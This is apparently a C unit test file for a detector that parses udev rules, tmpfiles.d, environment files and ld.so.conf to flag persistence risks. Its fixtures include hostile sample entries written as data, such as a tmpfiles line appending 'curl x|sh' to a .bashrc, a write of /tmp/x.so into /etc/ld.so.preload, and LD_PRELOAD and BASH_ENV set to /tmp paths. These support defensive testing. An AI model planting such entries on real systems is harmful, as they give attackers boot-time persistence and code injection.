/* test_detail_boot.c - unit tests of the udev, tmpfiles.d, environment and ld.so.conf details. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/common.h"
#include "persist/persist.h"

typedef json_t *extractor(const char *text, size_t len);

/* The detail of len bytes as compact JSON with sorted keys; free() it. */
static char *detail(extractor *f, const char *text, size_t len)
{
	json_t *j = f(text, len);
	char *s;

	assert_non_null(j);
	s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
	assert_non_null(s);
	json_decref(j);
	return s;
}

static void expect(extractor *f, const char *text, const char *want)
{
	char *got = detail(f, text, strlen(text));

	assert_string_equal(got, want);
	free(got);
}

static void test_udev(void **state)
{
	(void)state;
	expect(
	    fh_detail_udev,
	    "# 99-usb.rules\n"
	    "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/tmp/x \\\"a\\\"\"\r\n"
	    "KERNEL==\"sd*\", \\\n"
	    "  PROGRAM==\"/bin/id\", IMPORT{program}=\"/tmp/imp\", RUN{builtin}+=\"kmod load\", "
	    "OWNER=\"root\"\n"
	    "\n"
	    "KERNEL!=\"tty*\" RUN{program}+=\"/usr/bin/true\"\n",
	    "{\"errors\":[],\"rules\":["
	    "{\"assign\":[],\"import_program\":[],\"line\":2,"
	    "\"match\":[\"ACTION==\\\"add\\\"\",\"SUBSYSTEM==\\\"usb\\\"\"],\"program\":[],"
	    "\"run\":[\"/tmp/x \\\"a\\\"\"]},"
	    "{\"assign\":[\"RUN{builtin}+=\\\"kmod load\\\"\",\"OWNER=\\\"root\\\"\"],"
	    "\"import_program\":[\"/tmp/imp\"],\"line\":3,\"match\":[\"KERNEL==\\\"sd*\\\"\"],"
	    "\"program\":[\"/bin/id\"],\"run\":[]},"
	    "{\"assign\":[],\"import_program\":[],\"line\":6,\"match\":[\"KERNEL!=\\\"tty*\\\"\"],"
	    "\"program\":[],\"run\":[\"/usr/bin/true\"]}]}");
}

static void test_udev_errors(void **state)
{
	(void)state;
	expect(
	    fh_detail_udev,
	    "ACTION==\"add\", RUN+=\"/tmp/ok\"\n"
	    "BAD KEY\n"
	    "X==\"unterminated\n"
	    "X==unquoted\n"
	    "ATTR{x\n"
	    "A==\"1\"B==\"2\"\n"
	    "A==\"1\", \\",
	    "{\"errors\":["
	    "{\"line\":2,\"message\":\"expected an operator (==, !=, =, +=, -=, :=) after the key "
	    "at column 5\"},"
	    "{\"line\":3,\"message\":\"unterminated value at column 17\"},"
	    "{\"line\":4,\"message\":\"expected a double-quoted value at column 4\"},"
	    "{\"line\":5,\"message\":\"unterminated {attribute} at column 7\"},"
	    "{\"line\":6,\"message\":\"expected ',' between key-value pairs at column 7\"}],"
	    "\"rules\":[{\"assign\":[],\"import_program\":[],\"line\":1,"
	    "\"match\":[\"ACTION==\\\"add\\\"\"],\"program\":[],\"run\":[\"/tmp/ok\"]},"
	    "{\"assign\":[],\"import_program\":[],\"line\":7,\"match\":[\"A==\\\"1\\\"\"],"
	    "\"program\":[],\"run\":[]}]}");
}

static void test_tmpfiles(void **state)
{
	(void)state;
	expect(
	    fh_detail_tmpfiles,
	    "# tmpfiles\n"
	    "w+ /etc/ld.so.preload - - - - /tmp/x.so\r\n"
	    "d /run/foo 0755 root root 10d\n"
	    "L+ /usr/lib/evil - - - - /tmp/e\n"
	    "f /etc/f - - - - x\n"
	    "f+ /home/a/.bashrc - - - - curl x|sh  \n"
	    "w /var/tmp/x - - - - hi\n"
	    "r!= \"/tmp/a b\"\n"
	    "C /etc/x\n",
	    "{\"entries\":["
	    "{\"age\":\"-\",\"argument\":\"/tmp/x.so\",\"group\":\"-\",\"line\":2,\"mode\":\"-\","
	    "\"path\":\"/etc/ld.so.preload\",\"type\":\"w+\",\"user\":\"-\"},"
	    "{\"age\":\"10d\",\"group\":\"root\",\"line\":3,\"mode\":\"0755\",\"path\":\"/run/"
	    "foo\","
	    "\"type\":\"d\",\"user\":\"root\"},"
	    "{\"age\":\"-\",\"argument\":\"/tmp/e\",\"group\":\"-\",\"line\":4,\"mode\":\"-\","
	    "\"path\":\"/usr/lib/evil\",\"type\":\"L+\",\"user\":\"-\"},"
	    "{\"age\":\"-\",\"argument\":\"x\",\"group\":\"-\",\"line\":5,\"mode\":\"-\","
	    "\"path\":\"/etc/f\",\"type\":\"f\",\"user\":\"-\"},"
	    "{\"age\":\"-\",\"argument\":\"curl x|sh\",\"group\":\"-\",\"line\":6,\"mode\":\"-\","
	    "\"path\":\"/home/a/.bashrc\",\"type\":\"f+\",\"user\":\"-\"},"
	    "{\"age\":\"-\",\"argument\":\"hi\",\"group\":\"-\",\"line\":7,\"mode\":\"-\","
	    "\"path\":\"/var/tmp/x\",\"type\":\"w\",\"user\":\"-\"},"
	    "{\"line\":8,\"path\":\"/tmp/a b\",\"type\":\"r!=\"},"
	    "{\"line\":9,\"path\":\"/etc/x\",\"type\":\"C\"}],\"errors\":[],"
	    "\"risky\":[{\"line\":2,\"why\":\"writes into /etc at every boot\"},"
	    "{\"line\":4,\"why\":\"symlinks into /usr at every boot\"},"
	    "{\"line\":6,\"why\":\"writes into /home at every boot\"}]}");
}

static void test_tmpfiles_errors(void **state)
{
	(void)state;
	expect(fh_detail_tmpfiles, "Q\nY /x\nw* /x\nd relative\nd \"/open\nw /etcetera - - - - x\n",
	       "{\"entries\":[{\"age\":\"-\",\"argument\":\"x\",\"group\":\"-\",\"line\":6,"
	       "\"mode\":\"-\",\"path\":\"/etcetera\",\"type\":\"w\",\"user\":\"-\"}],"
	       "\"errors\":[{\"line\":1,\"message\":\"missing path\"},"
	       "{\"line\":2,\"message\":\"unknown type\"},"
	       "{\"line\":3,\"message\":\"unknown type modifier\"},"
	       "{\"line\":4,\"message\":\"path is not absolute\"},"
	       "{\"line\":5,\"message\":\"unterminated quote\"}],\"risky\":[]}");
}

static void test_env(void **state)
{
	(void)state;
	expect(fh_detail_env,
	       "# environment\n"
	       "LANG=C.UTF-8\r\n"
	       "export LD_PRELOAD=\"/tmp/x.so\"\n"
	       "PATH DEFAULT=/bin OVERRIDE=\"/tmp:/bin\"\n"
	       "EDITOR DEFAULT=vi\n"
	       "FOO\n"
	       "LD_PRELOAD='/tmp/y'\n"
	       "  BASH_ENV=/tmp/rc  \n",
	       "{\"errors\":[],\"risky\":[\"LD_PRELOAD\",\"PATH\",\"BASH_ENV\"],\"variables\":["
	       "{\"line\":2,\"name\":\"LANG\",\"value\":\"C.UTF-8\"},"
	       "{\"line\":3,\"name\":\"LD_PRELOAD\",\"value\":\"/tmp/x.so\"},"
	       "{\"line\":4,\"name\":\"PATH\",\"value\":\"/tmp:/bin\"},"
	       "{\"line\":5,\"name\":\"EDITOR\",\"value\":\"vi\"},"
	       "{\"line\":6,\"name\":\"FOO\"},"
	       "{\"line\":7,\"name\":\"LD_PRELOAD\",\"value\":\"/tmp/y\"},"
	       "{\"line\":8,\"name\":\"BASH_ENV\",\"value\":\"/tmp/rc\"}]}");
}

static void test_env_errors(void **state)
{
	(void)state;
	expect(fh_detail_env, "1BAD=x\nX BOGUS=1\nY DEFAULT=\"open\nZ junk\n=v\nOK=\n",
	       "{\"errors\":[{\"line\":1,\"message\":\"bad variable name\"},"
	       "{\"line\":2,\"message\":\"unknown option: expected DEFAULT= or OVERRIDE=\"},"
	       "{\"line\":3,\"message\":\"unterminated quote\"},"
	       "{\"line\":4,\"message\":\"expected DEFAULT=value or OVERRIDE=value\"},"
	       "{\"line\":5,\"message\":\"bad variable name\"}],\"risky\":[],"
	       "\"variables\":[{\"line\":6,\"name\":\"OK\",\"value\":\"\"}]}");
}

static void test_ld_so_conf(void **state)
{
	(void)state;
	expect(fh_detail_ld_so_conf,
	       "# ld.so.conf\n"
	       "include /etc/ld.so.conf.d/*.conf\r\n"
	       "/usr/local/lib:/tmp/lib,/opt/x /lib64 # comment\n"
	       "hwcap 0 nosegneg\n"
	       "include\n"
	       "rel/dir\n"
	       "/lib2\n"
	       "include a.conf\tb.conf\n",
	       "{\"directories\":[{\"line\":3,\"path\":\"/usr/local/lib\"},"
	       "{\"line\":3,\"outside_system\":true,\"path\":\"/tmp/lib\"},"
	       "{\"line\":3,\"path\":\"/opt/x\"},{\"line\":3,\"path\":\"/lib64\"},"
	       "{\"line\":7,\"outside_system\":true,\"path\":\"/lib2\"}],"
	       "\"errors\":[{\"line\":5,\"message\":\"include without a pattern\"},"
	       "{\"line\":6,\"message\":\"directory is not absolute: ldconfig ignores it\"}],"
	       "\"hwcap\":[{\"line\":4,\"text\":\"0 nosegneg\"}],"
	       "\"includes\":[{\"line\":2,\"pattern\":\"/etc/ld.so.conf.d/*.conf\"},"
	       "{\"line\":8,\"pattern\":\"a.conf\"},{\"line\":8,\"pattern\":\"b.conf\"}]}");
}

/* Invalid UTF-8 and NUL bytes become U+FFFD in every extractor. */
static void test_invalid_utf8(void **state)
{
	static const char env[] = "A=\xff\x00z\n";
	static const char ld[] = "/tmp/\xc3\n";
	static const char udev[] = "RUN+=\"/tmp/\xfe\"\n";
	static const char tmp[] = "w /etc/x - - - - \xff\n";
	char *got;

	(void)state;
	got = detail(fh_detail_env, env, sizeof(env) - 1);
	assert_string_equal(got, "{\"errors\":[],\"risky\":[],\"variables\":[{\"line\":1,"
				 "\"name\":\"A\",\"value\":\"\xef\xbf\xbd\xef\xbf\xbdz\"}]}");
	free(got);
	got = detail(fh_detail_ld_so_conf, ld, sizeof(ld) - 1);
	assert_string_equal(got, "{\"directories\":[{\"line\":1,\"outside_system\":true,"
				 "\"path\":\"/tmp/\xef\xbf\xbd\"}],\"errors\":[],\"hwcap\":[],"
				 "\"includes\":[]}");
	free(got);
	got = detail(fh_detail_udev, udev, sizeof(udev) - 1);
	assert_string_equal(got, "{\"errors\":[],\"rules\":[{\"assign\":[],\"import_program\":[],"
				 "\"line\":1,\"match\":[],\"program\":[],"
				 "\"run\":[\"/tmp/\xef\xbf\xbd\"]}]}");
	free(got);
	got = detail(fh_detail_tmpfiles, tmp, sizeof(tmp) - 1);
	assert_string_equal(got,
			    "{\"entries\":[{\"age\":\"-\",\"argument\":\"\xef\xbf\xbd\","
			    "\"group\":\"-\",\"line\":1,\"mode\":\"-\",\"path\":\"/etc/x\","
			    "\"type\":\"w\",\"user\":\"-\"}],\"errors\":[],"
			    "\"risky\":[{\"line\":1,\"why\":\"writes into /etc at every boot\"}]}");
	free(got);
}

/* n copies of line, as one text; free() it. */
static char *repeat(const char *line, size_t n, size_t *ret_len)
{
	size_t l = strlen(line), i;
	char *s = malloc(l * n + 1);

	assert_non_null(s);
	for (i = 0; i < n; i++)
		memcpy(s + i * l, line, l);
	s[l * n] = '\0';
	*ret_len = l * n;
	return s;
}

static void expect_cap(extractor *f, const char *line, const char *list, const char *total)
{
	size_t len;
	char *text = repeat(line, FH_DETAIL_MAX_ITEMS + 5, &len);
	json_t *j = f(text, len);

	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, list)), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(j, total)), FH_DETAIL_MAX_ITEMS + 5);
	json_decref(j);
	free(text);
}

static void test_caps(void **state)
{
	size_t len;
	char *big;
	json_t *j;

	(void)state;
	expect_cap(fh_detail_udev, "RUN+=\"/x\"\n", "rules", "rules_total");
	expect_cap(fh_detail_udev, "bad\n", "errors", "errors_total");
	expect_cap(fh_detail_tmpfiles, "w /etc/x - - - - y\n", "risky", "risky_total");
	expect_cap(fh_detail_env, "A=1\n", "variables", "variables_total");
	expect_cap(fh_detail_ld_so_conf, "/tmp\n", "directories", "directories_total");
	expect_cap(fh_detail_ld_so_conf, "x\n", "errors", "errors_total");

	/* One udev rule with too many pairs keeps the first ones and says so. */
	big = repeat("A==\"1\",", FH_DETAIL_MAX_ITEMS + 2, &len);
	j = fh_detail_udev(big, len);
	assert_non_null(j);
	json_t *rule = json_array_get(json_object_get(j, "rules"), 0);
	assert_true(json_is_true(json_object_get(rule, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(rule, "pairs_total")),
			 FH_DETAIL_MAX_ITEMS + 2);
	assert_int_equal(json_array_size(json_object_get(rule, "match")), FH_DETAIL_MAX_ITEMS);
	json_decref(j);
	free(big);

	/* Input past FH_DETAIL_MAX_INPUT is not read. */
	big = repeat("#\n", FH_DETAIL_MAX_INPUT / 2 + 1, &len);
	j = fh_detail_env(big, len);
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(j, "variables_total")), 0);
	json_decref(j);
	free(big);
}

static void test_empty(void **state)
{
	(void)state;
	expect(fh_detail_udev, "", "{\"errors\":[],\"rules\":[]}");
	expect(fh_detail_tmpfiles, "\n\n", "{\"entries\":[],\"errors\":[],\"risky\":[]}");
	expect(fh_detail_env, "#x", "{\"errors\":[],\"risky\":[],\"variables\":[]}");
	expect(fh_detail_ld_so_conf, "  \r\n",
	       "{\"directories\":[],\"errors\":[],\"hwcap\":[],\"includes\":[]}");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_udev),	   cmocka_unit_test(test_udev_errors),
		cmocka_unit_test(test_tmpfiles),   cmocka_unit_test(test_tmpfiles_errors),
		cmocka_unit_test(test_env),	   cmocka_unit_test(test_env_errors),
		cmocka_unit_test(test_ld_so_conf), cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_caps),	   cmocka_unit_test(test_empty),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
